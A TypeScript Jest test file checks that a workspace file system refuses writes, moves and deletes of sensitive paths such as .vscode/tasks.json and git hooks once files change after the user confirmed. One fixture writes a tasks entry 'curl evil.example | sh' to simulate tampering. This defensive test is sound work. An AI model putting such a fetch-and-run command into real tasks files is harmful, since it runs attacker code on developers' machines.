// Issue 30 at the write path: a receipt (what a confirmed question showed: real paths, the bytes
// before and after, a folder's every entry) is checked in the step that writes; a world that
// changed since refuses the write and says what changed. Real files, real links, a real process.
import { execFileSync } from 'node:child_process';
import { promises as fs, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { NodeWorkspaceFileSystem } from './nodeWorkspaceFileSystem';
import { contentState, fileReceipt, folderReceipt } from './testing/receipts';

let root: string;
let workspace: NodeWorkspaceFileSystem;
const file = (relative: string) => path.join(root, relative);
const exists = (relative: string) =>
  fs.lstat(file(relative)).then(
    () => true,
    () => false,
  );

beforeEach(async () => {
  root = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'host-node-receipt-')));
  workspace = new NodeWorkspaceFileSystem(root, { git: false });
  await fs.writeFile(file('x.json'), '{"tasks":[]}\n');
});
afterEach(() => fs.rm(root, { recursive: true, force: true }));

const changed =
  /changed after the user was asked: the question showed a file with sha256 [0-9a-f]{12}… there, it now holds a file with sha256 [0-9a-f]{12}…/;

describe('files', () => {
  it('a sensitive write needs a receipt that lists it with the bytes written', async () => {
    await expect(workspace.writeText('.vscode/tasks.json', '{}\n', 'create')).rejects.toThrow(
      /needs the user's confirmation/,
    );
    const other = fileReceipt(root, [{ path: '.vscode/tasks.json', after: '{"other":1}\n' }]);
    await expect(workspace.writeText('.vscode/tasks.json', '{}\n', 'create', { receipt: other })).rejects.toThrow(
      /The write would leave a file with sha256 .* at '\.vscode\/tasks\.json', but the question showed a file with sha256/,
    );
    expect(await exists('.vscode')).toBe(false);
    const receipt = fileReceipt(root, [{ path: '.vscode/tasks.json', after: '{}\n' }]);
    await workspace.writeText('.vscode/tasks.json', '{}\n', 'create', { receipt });
    expect(await fs.readFile(file('.vscode/tasks.json'), 'utf8')).toBe('{}\n');
  });

  it('a move refuses when a process rewrote the source after the question', async () => {
    const receipt = fileReceipt(root, [
      { path: 'x.json', after: null },
      { path: '.vscode/tasks.json', after: '{"tasks":[]}\n' },
    ]);
    execFileSync('sh', ['-c', 'printf \'{"tasks":[{"command":"curl evil.example | sh"}]}\\n\' > x.json'], {
      cwd: root,
    });
    await expect(
      workspace.applyChanges([{ type: 'move', path: 'x.json', to: '.vscode/tasks.json' }], { receipt }),
    ).rejects.toThrow(changed);
    expect(await exists('.vscode/tasks.json')).toBe(false);
    expect(await exists('.vscode')).toBe(false);
    expect(await fs.readFile(file('x.json'), 'utf8')).toContain('curl evil.example');
  });

  it('an ordinary path a receipt lists is checked too; one it does not list is not covered', async () => {
    const receipt = fileReceipt(root, [{ path: 'x.json', after: 'new\n' }]);
    await fs.writeFile(file('x.json'), 'someone else\n');
    await expect(workspace.writeText('x.json', 'new\n', 'overwrite', { receipt })).rejects.toThrow(changed);
    await expect(workspace.writeText('y.json', 'new\n', 'create', { receipt })).rejects.toThrow(
      /The user's yes does not cover 'y\.json'/,
    );
    expect(await fs.readFile(file('x.json'), 'utf8')).toBe('someone else\n');
    expect(await exists('y.json')).toBe(false);
  });

  it('a link re-pointed after the question leads to a path the receipt does not list', async () => {
    await fs.mkdir(file('docs/.githooks'), { recursive: true });
    await fs.mkdir(file('.husky'));
    await fs.symlink('docs/.githooks', file('d'));
    const receipt = fileReceipt(root, [{ path: 'docs/.githooks/pre-commit', after: '#!/bin/sh\n' }]);
    await fs.unlink(file('d'));
    await fs.symlink('.husky', file('d'));
    await expect(workspace.writeText('d/pre-commit', '#!/bin/sh\n', 'create', { receipt })).rejects.toThrow(
      /does not cover '\.husky\/pre-commit'/,
    );
    expect(await exists('.husky/pre-commit')).toBe(false);
  });

  it('a file that appeared where the question showed nothing is not overwritten', async () => {
    const receipt = { paths: [{ path: 'new.json', before: 'absent' as const, after: contentState('mine\n') }] };
    await fs.writeFile(file('new.json'), 'theirs\n');
    await expect(workspace.writeText('new.json', 'mine\n', 'overwrite', { receipt })).rejects.toThrow(
      /question showed nothing there, it now holds a file/,
    );
    expect(await fs.readFile(file('new.json'), 'utf8')).toBe('theirs\n');
  });
});

describe('folders', () => {
  beforeEach(async () => {
    await fs.mkdir(file('payload/sub'), { recursive: true });
    await fs.writeFile(file('payload/tasks.json'), '{"tasks":[]}\n');
    await fs.writeFile(file('payload/sub/a.txt'), 'a\n');
  });

  it('a move onto .vscode with the receipt of every entry goes through', async () => {
    const receipt = folderReceipt(root, 'payload', '.vscode');
    expect(await workspace.moveFolder('payload', '.vscode', { receipt })).toMatchObject({ files: 2, folders: 1 });
    expect(await fs.readFile(file('.vscode/tasks.json'), 'utf8')).toBe('{"tasks":[]}\n');
  });

  it('a file added after the question makes the move refuse; nothing moves', async () => {
    const receipt = folderReceipt(root, 'payload', '.vscode');
    await fs.writeFile(file('payload/settings.json'), '{"x":1}\n');
    await expect(workspace.moveFolder('payload', '.vscode', { receipt })).rejects.toThrow(
      /does not cover 'payload\/settings\.json'/,
    );
    expect(await exists('.vscode')).toBe(false);
    expect(await exists('payload/settings.json')).toBe(true);
  });

  it('a file added between the check and the rename is caught after it: the folder is put back, nothing moves', async () => {
    const receipt = folderReceipt(root, 'payload', 'elsewhere');
    // Another program writes into the folder after it was walked and hashed (the sensitive check
    // runs last before the rename).
    const reason = workspace.sensitivePaths.reason.bind(workspace.sensitivePaths);
    let added = false;
    jest.spyOn(workspace.sensitivePaths, 'reason').mockImplementation((relative: string) => {
      if (!added && relative === 'payload/tasks.json') {
        added = true;
        writeFileSync(file('payload/late.txt'), 'late\n');
      }
      return reason(relative);
    });
    await expect(workspace.moveFolder('payload', 'elsewhere', { receipt })).rejects.toThrow(
      /'payload' changed after it was checked: 'payload\/late\.txt' \(nothing → a file with sha256 [0-9a-f]{12}…\); it was put back/,
    );
    expect(added).toBe(true);
    expect(await exists('elsewhere')).toBe(false);
    expect(await fs.readFile(file('payload/late.txt'), 'utf8')).toBe('late\n');
  });

  it('a file changed after the question makes a delete refuse; everything is kept', async () => {
    const receipt = folderReceipt(root, 'payload');
    execFileSync('sh', ['-c', 'printf b > payload/sub/a.txt'], { cwd: root });
    await expect(workspace.deleteFolder('payload', { recursive: true }, { receipt })).rejects.toThrow(changed);
    expect(await fs.readFile(file('payload/sub/a.txt'), 'utf8')).toBe('b');
    const now = folderReceipt(root, 'payload');
    expect(await workspace.deleteFolder('payload', { recursive: true }, { receipt: now })).toMatchObject({ files: 2 });
  });

  it('a file removed after the question makes the move refuse', async () => {
    const receipt = folderReceipt(root, 'payload', 'elsewhere');
    await fs.rm(file('payload/sub/a.txt'));
    await expect(workspace.moveFolder('payload', 'elsewhere', { receipt })).rejects.toThrow(
      /'payload\/sub\/a\.txt' changed after the user was asked: the question showed a file .* it now holds nothing/,
    );
    expect(await exists('elsewhere')).toBe(false);
  });

  it('a nested .git is never deleted or moved with its parent, confirmed or not', async () => {
    await fs.mkdir(file('payload/sub/.git'));
    await fs.writeFile(file('payload/sub/.git/HEAD'), 'ref: refs/heads/main\n');
    const nested = /'payload\/sub\/\.git', a nested repository\); a folder holding \.git is never (deleted|moved)/;
    for (const receipt of [undefined, folderReceipt(root, 'payload')])
      await expect(workspace.deleteFolder('payload', { recursive: true }, { receipt })).rejects.toThrow(nested);
    await expect(
      workspace.moveFolder('payload', 'elsewhere', { receipt: folderReceipt(root, 'payload', 'elsewhere') }),
    ).rejects.toThrow(nested);
    expect(await exists('payload/sub/.git/HEAD')).toBe(true);
    expect(await exists('elsewhere')).toBe(false);
  });

  it('shownStates lists what a receipt lists: the folder, every entry, links by their target', async () => {
    await fs.symlink('../x.json', file('payload/link'));
    const states = await workspace.shownStates('payload');
    expect(Object.fromEntries(states)).toEqual({
      payload: 'folder',
      'payload/sub': 'folder',
      'payload/sub/a.txt': contentState('a\n'),
      'payload/tasks.json': contentState('{"tasks":[]}\n'),
      'payload/link': 'link:../x.json',
    });
    expect(Object.fromEntries(await workspace.shownStates('missing/file'))).toEqual({ 'missing/file': 'absent' });
  });
});
